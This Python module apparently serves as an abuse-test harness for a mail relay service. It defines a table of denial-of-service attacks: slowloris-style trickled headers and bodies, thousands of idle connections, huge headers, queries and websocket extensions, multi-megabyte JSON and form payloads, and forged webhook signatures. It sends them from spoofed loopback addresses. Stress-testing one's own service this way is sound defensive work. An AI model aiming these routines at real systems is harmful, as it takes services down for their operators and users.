"""What anybody can do who reaches the port: each attack is a coroutine that goes on until it is cancelled.

``ATTACKS[name](target)``. All enter by TCP, know no secret, and come from the addresses of ``Target.clients``: on
Linux any of 127.0.0.0/8 may be bound, so that a service which trusts 127.0.0.1 sees strangers.
"""

from __future__ import annotations

import asyncio
import base64
import functools
import itertools
import time
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass

_PIECE_BYTES = 64 * 1024
_PAUSE_SECONDS = 0.05  # between connections that were refused: an attacker, too, has one machine
_SOCKET = (
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)


@dataclass(frozen=True, slots=True)
class Target:
    """Where the service is, and from where it is attacked."""

    host: str
    port: int
    clients: Sequence[str] = ("127.0.0.2",)  # local addresses of the connections, in turns


Attack = Callable[[Target], Awaitable[None]]


def head(first: str, *lines: str) -> bytes:
    """A request's head."""
    return "\r\n".join((f"{first} HTTP/1.1", "Host: relay.test", *lines, "", "")).encode()


async def _connections(
    target: Target, count: int, once: Callable[[asyncio.StreamWriter], Awaitable[None]]
) -> None:
    """So many at once; each that ends is replaced."""
    clients = itertools.cycle(target.clients)

    async def one() -> None:
        while True:
            # RuntimeError: uvloop, of a connection that the service has ended.
            with suppress(OSError, RuntimeError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(
                    target.host, target.port, local_addr=(next(clients), 0)
                )
                try:
                    await once(writer)
                    await reader.read()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(_PAUSE_SECONDS)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(one())


def _sending(count: int, data: Callable[[], bytes]) -> Attack:
    """So many connections, each of which sends something and waits."""

    async def attack(target: Target) -> None:
        async def once(writer: asyncio.StreamWriter) -> None:
            writer.write(data())
            await writer.drain()

        await _connections(target, count, once)

    return attack


def _streaming(count: int, begin: Callable[[], bytes], piece: bytes, pause_seconds: float = 0.0) -> Attack:
    """So many connections, each of which sends pieces without end."""

    async def attack(target: Target) -> None:
        async def once(writer: asyncio.StreamWriter) -> None:
            writer.write(begin())
            while True:
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(pause_seconds)

        await _connections(target, count, once)

    return attack


def _signed_head(path: str, length: int) -> bytes:
    """With a signature of nobody's, whose parts are all there."""
    return head(
        f"POST {path}",
        f"Content-Length: {length}",
        "Webhook-Id: 1",
        f"Webhook-Timestamp: {int(time.time())}",
        f"Webhook-Signature: v1,{base64.b64encode(b'x' * 32).decode()}",
    )


@functools.cache
def _many_lines() -> bytes:
    return head("GET /", *(f"a{number}: b" for number in range(45_000)))[:-2]


def _whole(path: str, body: bytes, *lines: str) -> bytes:
    return head(f"POST {path}", f"Content-Length: {len(body)}", *lines) + body


_SHA1 = base64.b64encode(b"x" * 20).decode()
_JSON = b'{"signature":[' + b"{}," * 8_000_000 + b"{}]}"
_FORM = b"mandrill_events=" + b"%5B%22a" * 10_000_000

ATTACKS: dict[str, Attack] = {
    "idle connections": _sending(2000, lambda: b""),
    "a byte behind an answer": _sending(500, lambda: head("GET /livez") + b"\r\n"),
    "heads of many lines": _sending(45, _many_lines),
    "heads that trickle": _streaming(500, lambda: b"GET / HTTP/1.1\r\n", b"X: y\r\n", 1.0),
    "bodies that trickle": _streaming(
        500, lambda: head("POST /api/addresses/a@b.test", "Transfer-Encoding: chunked"), b"1\r\n{\r\n", 1.0
    ),
    "a path of nobody with a body without end": _streaming(
        20, lambda: head("POST /nowhere", "Transfer-Encoding: chunked"), b"10000\r\n" + b"y" * 65_536 + b"\r\n"
    ),
    "lines behind a body": _streaming(
        45, lambda: head("POST /nowhere", "Transfer-Encoding: chunked") + b"0\r\n", b"X: y\r\n" * 1000
    ),
    "bodies with junk signatures": _streaming(
        40, lambda: _signed_head("/inbound/raw", 25_000_000), b"y" * _PIECE_BYTES, 0.2
    ),
    "JSON for mailgun": _sending(4, lambda: _whole("/inbound/mailgun", _JSON, "Content-Type: application/json")),
    "JSON for ses": _sending(4, lambda: _whole("/inbound/ses", _JSON, "Content-Type: text/plain")),
    "a form for mandrill": _sending(
        2,
        lambda: _whole(
            "/inbound/mandrill",
            _FORM,
            "Content-Type: application/x-www-form-urlencoded",
            f"X-Mandrill-Signature: {_SHA1}",
        ),
    ),
    "extensions": _sending(
        10, lambda: head("GET /incoming-messages", *_SOCKET, f"Sec-WebSocket-Extensions: {'a;b,' * 125_000}")
    ),
    "a long query of a socket": _sending(10, lambda: head(f"GET /incoming-messages?{'a=1&' * 125_000}", *_SOCKET)),
    "a long query": _sending(10, lambda: head(f"GET /api/me?{'a&' * 32_000}")),
    "wrong keys at the socket": _sending(
        20, lambda: head("GET /incoming-messages?key=guess&addresses=a@b.test", *_SOCKET)
    ),
    "wrong keys at REST": _sending(20, lambda: head("GET /api/me", "Mailsac-Key: guess", "Connection: close")),
}
